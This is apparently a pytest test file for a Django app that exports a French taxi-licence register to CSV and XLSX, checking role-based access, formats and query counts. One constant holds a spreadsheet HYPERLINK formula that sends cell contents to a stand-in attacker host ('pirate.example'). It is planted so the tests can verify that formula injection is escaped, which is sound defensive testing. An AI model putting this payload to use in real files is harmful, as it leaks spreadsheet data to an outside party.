"""Exporting the register: each user downloads, as CSV or XLSX, what they may see.

A manager exports its authority from its dashboard; a prefecture agent or an inspector
exports its département (a workbook with the ADS and the authorities' rates); national
staff export the country. Anyone else gets a 404. The files open in French Excel (CSV in
UTF-8 with a BOM and ';'), formulas planted in a field are never run, and the number of
queries does not grow with the rows.
"""

import csv
import datetime
import io

import filetype
import openpyxl
import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from mesads.ads.models import ADS, Driver
from mesads.authorities.models import Authority
from mesads.exchange import xlsx
from mesads.exchange.columns import escape_formula, headers, unescape_formula

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://pirate.example/?d="&A1,"Cliquez ici")'
# Session, user, the user's scope (mesads.users.scope), the authority, the driver count,
# the ADS cursor, the drivers cursor.
EXPORT_QUERIES = 7


def make_ads(authority: Authority, number: str, drivers=(), **fields) -> ADS:
    ads = ADS(authority=authority, number=number, **fields)
    ads.save()
    saved = [Driver.objects.create(ads=ads, **driver) for driver in drivers]
    ads.refresh_derived(saved)
    ads.save()
    return ads


@pytest.fixture
def nimes_register(nimes, complete_ads) -> dict[str, ADS]:
    """Nîmes: ADS 12 (complete, attested, certified), 2 (new regime, a formula for a holder
    name, attested over a year ago) and 10 (two drivers); ADS 99 was deleted."""
    now = timezone.now()
    formula = make_ads(
        nimes,
        "2",
        creation_date=datetime.date(2016, 5, 2),
        last_renewal_date=datetime.date(2021, 5, 2),
        holder_name=FORMULA,
        holder_phone="+590690123456",
        cpam_agreement=True,
        vehicle_low_emission=False,
        drivers=[{"status": Driver.Status.TITULAIRE, "name": "Ali Durand", "card_number": "CP-2"}],
    )
    two_drivers = make_ads(
        nimes,
        "10",
        creation_date=datetime.date(1998, 1, 15),
        attribution_date=datetime.date(2010, 9, 1),
        drivers=[
            {"status": Driver.Status.SALARIE, "name": "Léa Petit", "card_number": "CP-10-1"},
            {
                "status": Driver.Status.LOCATAIRE_GERANT,
                "name": "Marc Roux",
                "siret": "73282932000074",
                "card_number": "CP-10-2",
                "lease_start_date": datetime.date(2019, 4, 1),
            },
        ],
    )
    make_ads(nimes, "99", holder_name="Supprimée SARL", deleted_at=now)
    ADS.objects.filter(pk=complete_ads.pk).update(
        attested_at=now - datetime.timedelta(days=10), certified_at=now
    )
    ADS.objects.filter(pk=formula.pk).update(attested_at=now - datetime.timedelta(days=400))
    nimes.expected_ads_count = 4
    nimes.save()
    return {"12": complete_ads, "2": formula, "10": two_drivers}


@pytest.fixture
def gard_register(nimes_register, ales, montpellier, nimes_metropole) -> None:
    """Plus one ADS in Alès (Gard) and one in Montpellier (Hérault)."""
    make_ads(
        ales,
        "1",
        creation_date=datetime.date(2000, 2, 3),
        holder_name="Taxi Alès",
        drivers=[{"status": Driver.Status.SALARIE, "name": "Paul Alès", "card_number": "CP-A"}],
    )
    make_ads(montpellier, "1", creation_date=datetime.date(2001, 2, 3), holder_name="Taxi Hérault")


def content(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def read_csv(data: bytes, separator: str = ";") -> list[list[str]]:
    assert data.startswith("\ufeff".encode()), "French Excel needs the byte order mark"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=separator))


def as_dicts(rows: list[list]) -> list[dict]:
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def read_xlsx(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def sheet_rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def authority_url(authority: Authority, export_format: str = "csv") -> str:
    return reverse("exchange:authority", args=[authority.pk, export_format])


def departement_url(code: str, export_format: str = "xlsx") -> str:
    return reverse("exchange:departement", args=[code, export_format])


# --- a manager exports its authority ----------------------------------------------------


def test_a_manager_exports_its_authority_as_csv_for_french_excel(client, manager, nimes_register):
    client.force_login(manager)

    response = client.get(authority_url(nimes_register["12"].authority))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="ads-nimes-30189-')
    assert "no-store" in response["Cache-Control"]
    rows = read_csv(content(response))
    # Two driver blocks: the most drivers of one ADS (ADS 10).
    assert rows[0] == headers(2)
    assert rows[0][:4] == [
        "Type de gestionnaire",
        "Gestionnaire",
        "Code INSEE ou SIREN du gestionnaire",
        "Département",
    ]
    exported = as_dicts(rows)
    # Natural order of the numbers; the deleted ADS 99 is not there.
    assert [row["Numéro de l’ADS"] for row in exported] == ["2", "10", "12"]
    new, two_drivers, complete = exported

    assert complete["Type de gestionnaire"] == "Commune"
    assert complete["Gestionnaire"] == "Nîmes"
    assert complete["Code INSEE ou SIREN du gestionnaire"] == "30189"
    assert complete["Département"] == "30"
    assert complete["Date de création"] == "01/03/2005"
    assert complete["Date d’attribution au titulaire actuel"] == "01/06/2012"
    assert complete["Date du dernier renouvellement"] == ""
    assert complete["ADS exploitée"] == "Oui"
    assert complete["SIRET du titulaire"] == "73282932000074"
    assert complete["Véhicule accessible (PMR)"] == "Non"
    assert complete["Véhicule à faibles émissions"] == "Oui"
    assert complete["Conventionnée CPAM"] == "Non"
    assert (complete["Complète"], complete["Attestation"], complete["Certification"]) == (
        "Oui",
        "attestée",
        "certifiée",
    )
    assert complete["Conducteur 1 – statut"] == "Salarié"
    assert complete["Conducteur 1 – nom"] == "Jean Martin"
    assert complete["Conducteur 1 – carte professionnelle"] == "CP-30-0001"
    assert complete["Conducteur 2 – nom"] == ""

    # A holder name that a spreadsheet would run as a formula is escaped, and so is a
    # phone number starting with "+"; the import takes the apostrophe off.
    assert new["Titulaire"] == "'" + FORMULA
    assert unescape_formula(new["Titulaire"]) == FORMULA
    assert new["Téléphone du titulaire"] == "'+590690123456"
    assert new["Véhicule accessible (PMR)"] == ""  # unknown
    assert new["Date du dernier renouvellement"] == "02/05/2021"
    assert new["Conventionnée CPAM"] == "Oui"
    assert (new["Complète"], new["Attestation"], new["Certification"]) == (
        "Non",
        "à vérifier",
        "non certifiée",
    )
    assert new["Conducteur 1 – statut"] == "Titulaire exploitant"

    assert two_drivers["Attestation"] == "non attestée"
    assert two_drivers["Conducteur 1 – nom"] == "Léa Petit"
    assert two_drivers["Conducteur 2 – statut"] == "Locataire-gérant"
    assert two_drivers["Conducteur 2 – nom"] == "Marc Roux"
    assert two_drivers["Conducteur 2 – SIRET"] == "73282932000074"
    assert two_drivers["Conducteur 2 – début de location-gérance"] == "01/04/2019"


def test_the_comma_variant(client, manager, nimes_register):
    client.force_login(manager)

    data = content(
        client.get(authority_url(nimes_register["12"].authority), {"separateur": "virgule"})
    )

    assert data.decode("utf-8-sig").startswith("Type de gestionnaire,Gestionnaire,")
    rows = read_csv(data, ",")
    assert [row[4] for row in rows[1:]] == ["2", "10", "12"]


def test_the_xlsx_export_has_the_same_rows_as_the_csv(client, manager, nimes_register):
    client.force_login(manager)
    nimes = nimes_register["12"].authority
    csv_rows = read_csv(content(client.get(authority_url(nimes, "csv"))))

    response = client.get(authority_url(nimes, "xlsx"))

    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response["Content-Disposition"].startswith('attachment; filename="ads-nimes-30189-')
    workbook = read_xlsx(content(response))
    assert workbook.sheetnames == ["ADS"]
    sheet = workbook["ADS"]

    def as_csv(value) -> str:
        if value is None:
            return ""
        if isinstance(value, datetime.datetime):
            return f"{value:%d/%m/%Y}"
        return escape_formula(value)

    assert [[as_csv(v) for v in row] for row in sheet_rows(sheet)] == csv_rows

    # Dates are real dates shown as dd/mm/yyyy; the formula is a text cell, never a formula.
    creation = sheet.cell(row=2, column=csv_rows[0].index("Date de création") + 1)
    assert creation.value == datetime.datetime(2016, 5, 2)
    assert creation.number_format == "dd/mm/yyyy"
    holder = sheet.cell(row=2, column=csv_rows[0].index("Titulaire") + 1)
    assert (holder.value, holder.data_type) == (FORMULA, "s")
    assert holder.quotePrefix  # Excel keeps it as text, even when the cell is edited


def test_an_epci_is_exported_with_its_siren(client, staff, nimes_metropole):
    make_ads(nimes_metropole, "1", commune=nimes_metropole.epci.members.get())
    client.force_login(staff)

    (row,) = as_dicts(read_csv(content(client.get(authority_url(nimes_metropole)))))

    assert row["Type de gestionnaire"] == "EPCI"
    assert row["Code INSEE ou SIREN du gestionnaire"] == "200035319"
    assert row["Commune de stationnement (code INSEE)"] == "30189"
    # No ADS has a driver: one empty block all the same.
    assert row["Conducteur 1 – nom"] == ""


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_manager_of_another_commune_gets_a_404(client, other_manager, nimes, export_format):
    client.force_login(other_manager)

    assert client.get(authority_url(nimes, export_format)).status_code == 404


def test_an_anonymous_visitor_is_sent_to_the_login_page(client, nimes):
    for url in (authority_url(nimes), departement_url("30"), reverse("exchange:index")):
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("login"))


def test_a_pending_request_gives_no_export(client, pending_user, nimes):
    client.force_login(pending_user)

    assert client.get(authority_url(nimes)).status_code == 404


def test_an_unknown_format_is_not_a_page(client, manager, nimes):
    client.force_login(manager)

    assert client.get(f"/exports/gestionnaires/{nimes.pk}/pdf/").status_code == 404


# --- a prefecture or an inspector exports its département -------------------------------


def test_a_prefecture_agent_exports_its_departement_as_a_workbook(
    client, prefecture_agent, gard_register
):
    client.force_login(prefecture_agent)

    response = client.get(departement_url("30"))

    assert response["Content-Disposition"].startswith('attachment; filename="ads-departement-30-')
    workbook = read_xlsx(content(response))
    assert workbook.sheetnames == ["ADS", "Gestionnaires"]

    ads = as_dicts(sheet_rows(workbook["ADS"]))
    # Grouped by authority (Alès before Nîmes), Montpellier (Hérault) left out.
    assert [(row["Gestionnaire"], row["Numéro de l’ADS"]) for row in ads] == [
        ("Alès", "1"),
        ("Nîmes", "2"),
        ("Nîmes", "10"),
        ("Nîmes", "12"),
    ]
    # Each ADS has its own drivers, whatever the authority.
    assert [row["Conducteur 1 – nom"] for row in ads] == [
        "Paul Alès",
        "Ali Durand",
        "Léa Petit",
        "Jean Martin",
    ]

    authorities = {row[1]: row for row in sheet_rows(workbook["Gestionnaires"])}
    assert authorities["Gestionnaire"] == (
        [
            "Type de gestionnaire",
            "Gestionnaire",
            "Code INSEE ou SIREN du gestionnaire",
            "Département",
            "Déclaration",
            "Nombre d’ADS attendu",
            "Nombre d’ADS",
            "ADS complètes",
            "ADS complètes (%)",
            "ADS attestées",
            "ADS attestées (%)",
            "ADS certifiées",
            "ADS certifiées (%)",
        ]
    )
    assert set(authorities) == {"Gestionnaire", "Alès", "Nîmes", "CA Nîmes Métropole"}
    third = pytest.approx(1 / 3)
    # Three live ADS: one complete, one attested less than a year ago, one certified.
    assert authorities["Nîmes"] == [
        "Commune",
        "Nîmes",
        "30189",
        "30",
        "ADS déclarées",
        4,
        3,
        1,
        third,
        1,
        third,
        1,
        third,
    ]
    assert authorities["CA Nîmes Métropole"][2:7] == [
        "200035319",
        "30",
        "Non renseignée",
        None,
        0,
    ]
    assert authorities["CA Nîmes Métropole"][8] is None  # no rate without ADS


def test_a_prefecture_agent_exports_its_departement_as_csv(client, prefecture_agent, gard_register):
    client.force_login(prefecture_agent)

    rows = as_dicts(read_csv(content(client.get(departement_url("30", "csv")))))

    assert [row["Gestionnaire"] for row in rows] == ["Alès", "Nîmes", "Nîmes", "Nîmes"]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_a_prefecture_agent_gets_a_404_for_another_departement(
    client, other_prefecture_agent, gard_register, export_format
):
    client.force_login(other_prefecture_agent)

    assert client.get(departement_url("30", export_format)).status_code == 404
    assert client.get(departement_url("34", export_format)).status_code == 200


def test_a_manager_cannot_export_its_departement(client, manager, gard_register):
    client.force_login(manager)

    assert client.get(departement_url("30")).status_code == 404


def test_an_inspector_exports_its_departement(client, inspector, other_inspector, gard_register):
    client.force_login(inspector)

    rows = as_dicts(read_csv(content(client.get(departement_url("30", "csv")))))

    assert len(rows) == 4
    client.force_login(other_inspector)
    assert client.get(departement_url("30", "csv")).status_code == 404


def test_an_unknown_departement_is_a_404(client, staff, gard_register):
    client.force_login(staff)

    assert client.get(departement_url("99")).status_code == 404
    assert client.get(departement_url("30", "csv")).status_code == 200


# --- national staff export the country ---------------------------------------------------


def test_national_staff_export_the_whole_country(client, staff, gard_register):
    client.force_login(staff)

    rows = as_dicts(read_csv(content(client.get(reverse("exchange:national", args=["csv"])))))
    workbook = read_xlsx(content(client.get(reverse("exchange:national", args=["xlsx"]))))

    assert [(row["Gestionnaire"], row["Numéro de l’ADS"]) for row in rows] == [
        ("Alès", "1"),
        ("Montpellier", "1"),
        ("Nîmes", "2"),
        ("Nîmes", "10"),
        ("Nîmes", "12"),
    ]
    assert workbook.sheetnames == ["ADS", "Gestionnaires"]
    assert workbook["ADS"].max_row == 6


@pytest.mark.parametrize(
    "persona", ["manager", "prefecture_agent", "inspector", "other_prefecture_agent"]
)
def test_only_national_staff_export_the_country(client, request, persona, gard_register):
    client.force_login(request.getfixturevalue(persona))

    for export_format in ("csv", "xlsx"):
        url = reverse("exchange:national", args=[export_format])
        assert client.get(url).status_code == 404


# --- scale: queries and determinism ------------------------------------------------------


def fill(authority: Authority, count: int) -> None:
    for n in range(count):
        make_ads(
            authority,
            str(n + 1),
            creation_date=datetime.date(2005, 1, 1),
            holder_name=f"Titulaire {n}",
            drivers=[
                {"status": Driver.Status.SALARIE, "name": f"Salarié {n}-{d}", "card_number": "CP"}
                for d in range(n % 3)
            ],
        )


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_query_count_does_not_grow_with_the_rows(
    client, manager, nimes, export_format, django_assert_max_num_queries
):
    client.force_login(manager)
    counts = []
    for size in (5, 50):
        ADS.objects.all().delete()
        fill(nimes, size)
        with (
            django_assert_max_num_queries(EXPORT_QUERIES),
            CaptureQueriesContext(connection) as queries,
        ):
            data = content(client.get(authority_url(nimes, export_format)))
        counts.append(len(queries))
        assert len(data) > 0
    assert counts[0] == counts[1]


def test_two_csv_exports_of_an_unchanged_register_are_identical(client, staff, gard_register):
    client.force_login(staff)
    url = reverse("exchange:national", args=["csv"])

    assert content(client.get(url)) == content(client.get(url))


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_an_export_reads_one_snapshot_of_its_own(client, staff, gard_register, export_format):
    """Out of the request's transaction (a CSV streams after the view has returned), the
    export opens its own; on PostgreSQL, REPEATABLE READ gives its cursors one snapshot."""
    client.force_login(staff)

    with CaptureQueriesContext(connection) as queries:
        data = content(client.get(reverse("exchange:national", args=[export_format])))

    assert data
    if connection.vendor == "postgresql":
        assert any("REPEATABLE READ, READ ONLY" in query["sql"] for query in queries)


# --- the command -------------------------------------------------------------------------


def test_the_command_writes_the_national_csv_deterministically(tmp_path, gard_register):
    first, second = tmp_path / "registre.csv", tmp_path / "encore.csv"

    call_command("export_ads", str(first), verbosity=0)
    call_command("export_ads", str(second), "--format", "csv", verbosity=0)

    assert first.read_bytes() == second.read_bytes()
    rows = as_dicts(read_csv(first.read_bytes()))
    assert len(rows) == 5
    assert "Supprimée SARL" not in first.read_text("utf-8-sig")
    assert not list(tmp_path.glob(".export-*"))  # no temporary file left behind


def test_the_command_exports_a_departement_workbook(tmp_path, gard_register):
    output = tmp_path / "gard.xlsx"
    out = io.StringIO()

    call_command("export_ads", str(output), "--departement", "30", stdout=out)

    workbook = read_xlsx(output.read_bytes())
    assert workbook.sheetnames == ["ADS", "Gestionnaires"]
    assert workbook["ADS"].max_row == 5
    assert "4 ADS (Gard (30)) exportées" in out.getvalue()


def test_the_command_writes_a_comma_csv(tmp_path, gard_register):
    output = tmp_path / "gard.csv"

    call_command("export_ads", str(output), "--departement", "30", "--separator", ",", verbosity=0)

    assert len(read_csv(output.read_bytes(), ",")) == 5


def test_the_command_refuses_an_unknown_departement(tmp_path, gard):
    with pytest.raises(CommandError, match="Département inconnu : 99"):
        call_command("export_ads", str(tmp_path / "x.csv"), "--departement", "99")


# --- the export page ---------------------------------------------------------------------


def test_the_export_page_offers_what_each_user_may_export(
    client, manager, prefecture_agent, staff, nimes, gard
):
    client.force_login(manager)
    page = client.get(reverse("exchange:index")).content.decode()
    assert authority_url(nimes, "xlsx") in page
    assert departement_url("30") not in page
    assert reverse("exchange:national", args=["csv"]) not in page

    client.force_login(prefecture_agent)
    page = client.get(reverse("exchange:index")).content.decode()
    assert departement_url("30") in page
    assert reverse("exchange:national", args=["csv"]) not in page

    client.force_login(staff)
    response = client.get(reverse("exchange:index"))
    assert response.status_code == 200
    assert "<h1>Exporter le registre</h1>" in response.content.decode()
    assert reverse("exchange:national", args=["xlsx"]) in response.content.decode()


def test_the_xlsx_writer_keeps_awkward_text_as_it_is(tmp_path):
    path = tmp_path / "awkward.xlsx"
    awkward = [
        "=1+1",
        "a\r\nb",
        "bell\x07",
        "_x0041_",
        " spaces ",
        "<b>&amp;</b>",
        "é" * 40_000,
    ]
    with xlsx.Workbook(str(path), ["Feuille"]) as workbook:
        workbook.write_sheet(
            ["Texte", "Nombre"], [[text, n] for n, text in enumerate(awkward)], {1: xlsx.PERCENT}
        )

    # The import's upload check recognises the file.
    assert filetype.guess(path.read_bytes()).extension == "xlsx"
    sheet = read_xlsx(path.read_bytes())["Feuille"]
    values = [row[0] for row in sheet_rows(sheet)[1:]]
    # Excel's _xHHHH_ convention for what XML cannot hold (openpyxl does not decode it).
    assert values[:3] == ["=1+1", "a\r\nb", "bell_x0007_"]
    assert values[3:6] == ["_x005F_x0041_", " spaces ", "<b>&amp;</b>"]
    assert values[6] == "é" * 32_767  # the most a cell holds
    assert sheet.cell(row=2, column=1).quotePrefix
    assert sheet.cell(row=3, column=2).number_format == "0%"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B8"
    assert [xlsx.column_name(i) for i in (0, 25, 26, 701, 702)] == ["A", "Z", "AA", "ZZ", "AAA"]


def test_formula_escaping_round_trips():
    for text in ["=1+1", "+33", "-", "@SUM(A1)", "\tx", "'=x", "''", "'", "'quoted", "plain", ""]:
        assert unescape_formula(escape_formula(text)) == text
    assert escape_formula("=1+1") == "'=1+1"
    assert escape_formula("'quoted") == "'quoted"
    assert escape_formula("'=x") == "''=x"
